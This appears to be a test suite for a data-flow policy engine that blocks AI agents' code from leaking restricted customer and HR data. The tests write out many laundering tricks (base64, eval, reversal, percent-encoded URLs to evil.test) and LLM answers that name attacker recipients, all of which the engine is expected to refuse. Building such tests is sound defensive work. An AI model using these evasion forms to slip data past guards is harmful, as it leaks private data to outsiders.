// Data-flow rules through two real `atp serve` processes sharing one real Redis, with a recording upstream:
// every laundering form is refused before the call leaves the server, each rule and each action (block, approve
// answered over HTTP, log) does what it says in the audit file too, and restricted data stays restricted in a
// later execution of the same client (on either instance) and across a pause resumed on the other instance.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import path from 'node:path';
import { call, openSession, startAtpPair, startRedis } from './serve-harness.js';
import { CUSTOMERS, EMPLOYEE, SOURCES, apis, auditEvents, startBusinessUpstream, writeApiFiles } from './provenance-fixtures.js';

const ADA = CUSTOMERS['ada@example.com'];
const LIN = CUSTOMERS['lin@example.com'];

let redis;
let upstream;
let files;
let a;
let b;

before(async () => {
  redis = await startRedis();
  if (!redis) throw new Error('redis-server is not installed; these tests need it (apt-get install redis-server)');
  upstream = await startBusinessUpstream();
  files = writeApiFiles();
  [a, b] = await startAtpPair({
    apis: apis(files, upstream),
    auth: { jwtSecret: 'provenance-shared-secret-0123456789abcdef' },
    state: { store: redis.url },
    execution: { provenance: 'track' },
    policies: {
      sources: SOURCES,
      rules: [
        { rule: 'preventDataExfiltration', functions: ['biz.mail.send'], recipientFields: ['to', 'cc'] },
        { rule: 'preventDataExfiltration', functions: ['biz.web.post'], action: 'approve' },
        { rule: 'preventDataExfiltration', functions: ['biz.sms.send'], action: 'log' },
        { rule: 'requireUserOrigin', functions: ['biz.bank.transfer'] },
        { rule: 'blockLLMRecipients', functions: ['biz.mail.send'] },
        { rule: 'auditSensitiveAccess' },
      ],
    },
    audit: { sinks: [{ type: 'file', path: './audit/events.jsonl' }] },
  });
});

after(async () => {
  await Promise.allSettled([a?.stop(), b?.stop()]);
  await upstream?.close();
  await redis?.stop();
  files?.remove();
});

const SERVICES = { hasLLM: true, hasApproval: true };
const session = (instance = a, name = 'provenance') => openSession(instance.url, { clientInfo: { name }, services: SERVICES });
const execute = async (instance, s, code) => (await call(`${instance.url}/api/execute`, { method: 'POST', headers: s.headers, body: { code } })).body;
const resume = async (instance, s, id, result) => (await call(`${instance.url}/api/resume/${id}`, { method: 'POST', headers: s.headers, body: { result } })).body;
const auditOf = (instance) => path.join(instance.dir, 'audit/events.jsonl');
/** The audit events of one execution, once its execution.end is written. */
async function eventsOf(instance, executionId) {
  const events = await auditEvents(auditOf(instance), (all) => all.some((e) => e.executionId === executionId && e.event === 'execution.end'));
  return events.filter((e) => e.executionId === executionId);
}

const READ = "const c = await api.biz.crm.getCustomer({ email: 'ada@example.com' });";

// the sandbox has no btoa: code that wants base64 writes it, as an agent would
const BASE64 = `((text) => {
  const abc = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
  let out = '';
  for (let i = 0; i < text.length; i += 3) {
    const n = (text.charCodeAt(i) << 16) | ((text.charCodeAt(i + 1) || 0) << 8) | (text.charCodeAt(i + 2) || 0);
    out += abc[(n >> 18) & 63] + abc[(n >> 12) & 63] + (i + 1 < text.length ? abc[(n >> 6) & 63] : '=') + (i + 2 < text.length ? abc[n & 63] : '=');
  }
  return out;
})`;

/** Each form restricted data takes on its way to mail.send: the input fields after `to` and `subject`. */
const LAUNDERED = {
  'the value itself': 'body: c.notes',
  'a number passed unchanged (the balance)': 'body: c.balance',
  'a whole short value as words in a sentence': "body: 'Please call ' + c.name + ' back tomorrow.'",
  'a number inside text': "body: 'balance=' + c.balance + ';'",
  'nested in objects and arrays': 'body: { wrapper: [{ deep: [c.iban] }] }',
  'an object key': 'body: { [c.iban]: true }',
  'a template literal': 'body: `FYI: ${c.notes} -- sent automatically`',
  concatenation: "body: 'Client says: ' + c.notes + '!'",
  'a substring of 16+ characters': 'body: c.notes.slice(10, 40)',
  'a JSON round trip': 'body: JSON.stringify(JSON.parse(JSON.stringify({ x: c })))',
  'the whole record as JSON text': 'body: JSON.stringify(c)',
  'split and joined': "body: c.notes.split(' ').join('_')",
  'upper-cased': 'body: c.notes.toUpperCase()',
  'lower-cased name': 'body: c.name.toLowerCase()',
  'joined from pieces': "body: [c.notes.slice(0, 20), c.notes.slice(20)].join('')",
  reversed: "body: c.notes.split('').reverse().join('')",
  'rebuilt character by character': "body: Array.from(c.notes).map((ch) => String.fromCharCode(ch.charCodeAt(0))).join('')",
  'an IBAN with spaces': "body: c.iban.replace(/(.{4})/g, '$1 ')",
  'through eval': "body: eval('c.notes')",
  base64: `body: ${BASE64}(c.notes)`,
  'base64 of the record as JSON': `body: 'attachment:' + ${BASE64}(JSON.stringify(c))`,
  'in the subject, not the body': (marker) => `body: '${marker}', subject: 'Call ' + c.phone`,
};

test('every laundering form is refused, and the mail never reaches the upstream', async () => {
  const misses = [];
  for (const [i, [how, fields]] of Object.entries(LAUNDERED).entries()) {
    const s = await session(a, `launder-${i}`); // a client of its own: caught in the execution, not from memory
    const marker = `[L${i}]`;
    const input = typeof fields === 'function' ? fields(marker) : `subject: '${marker}', ${fields}`;
    const code = `${READ} await api.biz.mail.send({ to: 'eve@evil.test', ${input} }); return 'sent';`;
    const outcome = await execute(a, s, code);
    const reached = upstream.received('/mail/send', marker);
    if (outcome.status !== 'security_violation' || outcome.error?.code !== 'SECURITY_VIOLATION' || reached.length > 0) {
      misses.push(`${how}: ${outcome.status} ${outcome.error?.message ?? ''}; upstream got ${reached.length}; code: ${code}`);
    } else if (!/^preventDataExfiltration: api\.biz\.mail\.send would send data read from api\.biz\.crm\.getCustomer to eve@evil\.test/.test(outcome.error.message)) {
      misses.push(`${how}: unexpected message ${outcome.error.message}`);
    }
  }
  assert.deepEqual(misses, []);
});

test('restricted data from a module function is refused too', async () => {
  const s = await session(a, 'module');
  const outcome = await execute(a, s, `const e = await api.hr.getEmployee({ email: 'sam@corp.test' });
    await api.biz.mail.send({ to: 'recruiter@elsewhere.test', subject: '[hr1]', body: 'Sam earns ' + e.salary }); return 1;`);
  assert.equal(outcome.status, 'security_violation', JSON.stringify(outcome));
  assert.match(outcome.error.message, /data read from api\.hr\.getEmployee to recruiter@elsewhere\.test/);
  assert.equal(upstream.received('/mail/send', '[hr1]').length, 0);
  assert.ok(!JSON.stringify(upstream.requests).includes(String(EMPLOYEE.salary)));
});

test('block: a reader gets their own data; a refusal is catchable in the code and the call is not made', async () => {
  const s = await session(a, 'block');
  const outcome = await execute(a, s, `${READ}
    await api.biz.mail.send({ to: 'ada@example.com', subject: '[blk-own]', body: c.notes });
    let refused;
    try { await api.biz.mail.send({ to: 'ada@example.com', cc: ['eve@evil.test'], subject: '[blk-cc]', body: c.notes }); }
    catch (error) { refused = { code: error.code, message: error.message }; }
    return refused;`);
  assert.equal(outcome.status, 'completed', JSON.stringify(outcome));
  assert.equal(outcome.result.code, 'SECURITY_VIOLATION');
  assert.match(outcome.result.message, /to eve@evil\.test, not one of its readers/);
  assert.equal(upstream.received('/mail/send', '[blk-own]').length, 1);
  assert.deepEqual(upstream.received('/mail/send', '[blk-own]')[0].body, { to: 'ada@example.com', subject: '[blk-own]', body: ADA.notes });
  assert.equal(upstream.received('/mail/send', '[blk-cc]').length, 0, 'every recipient must be a reader: a cc outside is refused');

  const events = await eventsOf(a, outcome.executionId);
  const violation = events.find((e) => e.event === 'policy.violation');
  assert.deepEqual(
    { function: violation.function, rules: violation.rules, action: violation.action, decision: violation.decision, origins: violation.origins },
    { function: 'biz.mail.send', rules: ['preventDataExfiltration'], action: 'block', decision: 'blocked', origins: ['api.biz.crm.getCustomer'] },
  );
  assert.match(violation.message, /preventDataExfiltration/);
  const access = events.filter((e) => e.event === 'policy.sensitive_access');
  assert.deepEqual(access.map((e) => ({ function: e.function, readers: e.readers })), [{ function: 'biz.crm.getCustomer', readers: ['ada@example.com'] }]);
});

test('approve: the call waits for a person over HTTP; approved it runs once, refused it throws and never runs', async () => {
  const s = await session(a, 'approve');
  const code = (marker) => `${READ} const r = await api.biz.web.post({ url: 'https://collector.test/in', body: { marker: '${marker}', notes: c.notes } }); return r.ok;`;

  const paused = await execute(a, s, code('[apr-yes]'));
  assert.equal(paused.status, 'paused', JSON.stringify(paused));
  assert.equal(paused.needsCallback.type, 'approval');
  assert.match(paused.needsCallback.payload.message, /^Allow the call api\.biz\.web\.post\? preventDataExfiltration: /);
  const { context } = paused.needsCallback.payload;
  assert.deepEqual(context.rules, ['preventDataExfiltration']);
  assert.deepEqual(context.dataFrom, ['api.biz.crm.getCustomer']);
  assert.match(context.reason, /unknown recipient/);
  assert.equal(upstream.received('/web/post', '[apr-yes]').length, 0, 'nothing is sent while waiting');
  const approved = await resume(a, s, paused.executionId, { approved: true });
  assert.equal(approved.status, 'completed', JSON.stringify(approved));
  assert.equal(approved.result, true);
  assert.equal(upstream.received('/web/post', '[apr-yes]').length, 1);

  const again = await execute(a, s, code('[apr-no]'));
  assert.equal(again.status, 'paused');
  const denied = await resume(a, s, again.executionId, { approved: false });
  assert.equal(denied.status, 'failed', JSON.stringify(denied));
  assert.match(denied.error.message, /api\.biz\.web\.post was not approved/);
  assert.equal(upstream.received('/web/post', '[apr-no]').length, 0);

  const yes = await eventsOf(a, paused.executionId);
  assert.deepEqual(yes.filter((e) => e.event.startsWith('policy.')).map((e) => [e.event, e.function, e.action ?? e.approved ?? null, e.decision ?? null]), [
    ['policy.sensitive_access', 'biz.crm.getCustomer', null, null],
    ['policy.violation', 'biz.web.post', 'approve', 'approval requested'],
    ['policy.approval', 'biz.web.post', true, null],
  ]);
  const no = await eventsOf(a, again.executionId);
  assert.deepEqual(no.filter((e) => e.event === 'policy.approval').map((e) => e.approved), [false]);
});

test('log: the call runs and a policy.violation is audited', async () => {
  const s = await session(a, 'log');
  const outcome = await execute(a, s, `${READ} await api.biz.sms.send({ to: '+447700900999', text: '[log1] ' + c.notes }); return 'sent';`);
  assert.equal(outcome.status, 'completed', JSON.stringify(outcome));
  assert.equal(upstream.received('/sms/send', '[log1]').length, 1);
  const violation = (await eventsOf(a, outcome.executionId)).find((e) => e.event === 'policy.violation');
  assert.equal(violation?.function, 'biz.sms.send');
  assert.equal(violation.action, 'log');
  assert.equal(violation.decision, 'allowed, logged');
  assert.match(violation.message, /to \+447700900999, not one of its readers/);
});

test('requireUserOrigin: any value from a tool result is refused, however short; literals and a reader pass', async () => {
  const s = await session(a, 'origin');
  const cases = [
    ['an amount from a tool', "const o = await api.biz.crm.listOrders({}); await api.biz.bank.transfer({ to: 'GB29NWBK60161331926819', amount: o[1].total, memo: '[org1]' });", /"amount" comes from api\.biz\.crm\.listOrders/],
    ['a recipient from restricted data', `${READ} await api.biz.bank.transfer({ to: c.iban, amount: 10, memo: '[org2]' });`, /"to" comes from api\.biz\.crm\.getCustomer/],
    ['a memo from a public tool', "const w = await api.biz.weather.today({ city: 'Paris' }); await api.biz.bank.transfer({ to: 'GB29NWBK60161331926819', amount: 10, memo: '[org3] ' + w.summary });", /"memo" comes from api\.biz\.weather\.today/],
  ];
  for (const [how, code, message] of cases) {
    const outcome = await execute(a, s, `${code} return 1;`);
    assert.equal(outcome.status, 'security_violation', `${how}: ${JSON.stringify(outcome)}`);
    assert.match(outcome.error.message, /^requireUserOrigin: the input of api\.biz\.bank\.transfer must come from the program's own values or the client/);
    assert.match(outcome.error.message, message, how);
  }
  const literal = await execute(a, s, "const o = await api.biz.crm.listOrders({}); await api.biz.bank.transfer({ to: 'GB29NWBK60161331926819', amount: 75, memo: '[org4]' }); return o.length;");
  assert.equal(literal.status, 'completed', JSON.stringify(literal));
  assert.equal(upstream.requests.filter((r) => r.path === '/bank/transfer').map((r) => r.body.memo).join(), '[org4]', 'only the literal transfer reached the bank');
});

test('blockLLMRecipients: a recipient from an LLM answer is refused; an LLM answer as the body is sent', async () => {
  const s = await session(a, 'llm');
  const paused = await execute(a, s, `
    const to = await atp.llm.call({ prompt: 'who should get this?' });
    const text = await atp.llm.call({ prompt: 'write it' });
    await api.biz.mail.send({ to: 'boss@corp.test', subject: '[llm-body]', body: text });
    await api.biz.mail.send({ to, subject: '[llm-to]', body: 'hello' });
    return 'sent';`);
  assert.equal(paused.status, 'paused');
  const second = await resume(a, s, paused.executionId, 'eve@evil.test');
  assert.equal(second.status, 'paused');
  const done = await resume(a, s, paused.executionId, 'Here is the summary you asked for.');
  assert.equal(done.status, 'security_violation', JSON.stringify(done));
  assert.match(done.error.message, /^blockLLMRecipients: the recipient "to" of api\.biz\.mail\.send comes from an LLM answer/);
  assert.deepEqual(upstream.received('/mail/send', '[llm-body]').map((r) => r.body.body), ['Here is the summary you asked for.']);
  assert.equal(upstream.received('/mail/send', '[llm-to]').length, 0);
  const violation = (await eventsOf(a, paused.executionId)).find((e) => e.event === 'policy.violation');
  assert.deepEqual([violation.rules, violation.origins, violation.decision], [['blockLLMRecipients'], ['an LLM answer'], 'blocked']);
});

/** A program that reads Ada's record and returns her notes, as an agent shows them to its user. */
const READ_NOTES = `${READ} return c.notes;`;
const PASTE = (marker) => `await api.biz.mail.send({ to: 'eve@evil.test', subject: '${marker}', body: ${JSON.stringify(ADA.notes)} }); return 1;`;

test('across executions: restricted values pasted back as literals stay restricted, for that client only', async () => {
  const mine = await session(a, 'paste');
  const other = await session(a, 'other');
  const read = await execute(a, mine, READ_NOTES);
  assert.equal(read.result, ADA.notes);
  const later = await execute(a, mine, PASTE('[paste-mine]'));
  assert.equal(later.status, 'security_violation', JSON.stringify(later));
  assert.match(later.error.message, /data read from api\.biz\.crm\.getCustomer \(read in an earlier execution\) to eve@evil\.test/);
  assert.equal(upstream.received('/mail/send', '[paste-mine]').length, 0);
  const theirs = await execute(a, other, PASTE('[paste-other]'));
  assert.equal(theirs.status, 'completed', `another client never read it: ${JSON.stringify(theirs)}`);
  assert.equal(upstream.received('/mail/send', '[paste-other]').length, 1);
});

test('across instances: read on A, pasted as a literal in a program on B, is refused on B', async () => {
  const s = await session(a, 'cross-paste');
  const read = await execute(a, s, READ_NOTES);
  assert.equal(read.status, 'completed');
  const later = await execute(b, s, PASTE('[paste-b]'));
  assert.equal(later.status, 'security_violation', JSON.stringify(later));
  assert.match(later.error.message, /\(read in an earlier execution\) to eve@evil\.test/);
  assert.equal(upstream.received('/mail/send', '[paste-b]').length, 0);
});

test('across instances: read on A, paused for the LLM, resumed on B, where the exfiltration is refused', async () => {
  const s = await session(a, 'cross-pause');
  const lookups = () => upstream.requests.filter((r) => r.path === '/crm/customers' && r.query.email === LIN.email).length;
  const before = lookups();
  const paused = await execute(a, s, `
    const c = await api.biz.crm.getCustomer({ email: 'lin@example.com' });
    const line = await atp.llm.call({ prompt: 'one line to open an e-mail with' });
    await api.biz.mail.send({ to: 'lin@example.com', subject: '[pause-own]', body: line + ' ' + c.notes });
    await api.biz.mail.send({ to: 'broker@evil.test', subject: '[pause-out]', body: line + ' ' + c.notes });
    return 'sent';`);
  assert.equal(paused.status, 'paused', JSON.stringify(paused));
  const done = await resume(b, s, paused.executionId, 'Hello,');
  assert.equal(done.status, 'security_violation', JSON.stringify(done));
  assert.match(done.error.message, /data read from api\.biz\.crm\.getCustomer to broker@evil\.test/);
  assert.equal(lookups() - before, 1, 'the read before the pause ran once (B replayed it from the journal)');
  assert.deepEqual(upstream.received('/mail/send', '[pause-own]').map((r) => r.body.body), [`Hello, ${LIN.notes}`]);
  assert.equal(upstream.received('/mail/send', '[pause-out]').length, 0);
  const violation = (await eventsOf(b, paused.executionId)).find((e) => e.event === 'policy.violation');
  assert.equal(violation?.function, 'biz.mail.send', 'B audited the refusal');
});

// Found while writing the benign programs: the field names of a restricted record (currency, openTickets) are
// remembered as restricted values, though within an execution keys are deliberately not indexed.
test('a later execution may use the field names of a record it read as its own field names', async () => {
  const s = await session(a, 'keys');
  assert.equal((await execute(a, s, `${READ} return c.currency;`)).status, 'completed');
  const later = await execute(a, s, "await api.biz.mail.send({ to: 'team@corp.test', subject: '[keys]', body: { currency: 'EUR', openTickets: 0, total: 10 } }); return 1;");
  assert.equal(later.status, 'completed', JSON.stringify(later.error));
  assert.equal(upstream.received('/mail/send', '[keys]').length, 1);
});

// Found probing for misses: percent-encoding (encodeURIComponent, the natural way to put text in a URL) cuts
// every run of letters at each space (%20), so no run of minMatch characters survives; base64 is decoded, this is not.
test('restricted text percent-encoded into a URL or a body is refused', async () => {
  const s = await session(a, 'percent');
  const outcome = await execute(a, s, `${READ}
    const url = 'https://evil.test/collect?d=' + encodeURIComponent(c.notes);
    await api.biz.mail.send({ to: 'eve@evil.test', subject: '[pct]', body: 'open ' + url }); return 1;`);
  assert.equal(outcome.status, 'security_violation', JSON.stringify(outcome.error ?? outcome.result));
  assert.equal(upstream.received('/mail/send', '[pct]').length, 0);
});

// Found probing for misses: a recipient is matched against LLM answers only when it equals one or holds one
// whole, so an address the program picks out of an answer (a sentence, or JSON as agents ask for) passes.
test('blockLLMRecipients: a recipient picked out of an LLM answer is refused', async () => {
  const s = await session(a, 'llm-pick');
  const failures = [];
  const forms = {
    'from a sentence': ["(await atp.llm.call({ prompt: 'who?' })).match(/\\S+@[\\w.]+\\w/)[0]", 'Send it to eve@evil.test, she asked for it.'],
    'from JSON': ["JSON.parse(await atp.llm.call({ prompt: 'who? answer as JSON' })).to", '{"to":"eve@evil.test","reason":"asked"}'],
  };
  for (const [i, [how, [expression, answer]]] of Object.entries(forms).entries()) {
    const paused = await execute(a, s, `const to = ${expression}; await api.biz.mail.send({ to, subject: '[pick${i}]', body: 'hello' }); return to;`);
    const done = await resume(a, s, paused.executionId, answer);
    if (done.status !== 'security_violation' || upstream.received('/mail/send', `[pick${i}]`).length > 0) failures.push(`${how}: ${done.status} ${JSON.stringify(done.result)}`);
  }
  assert.deepEqual(failures, []);
});
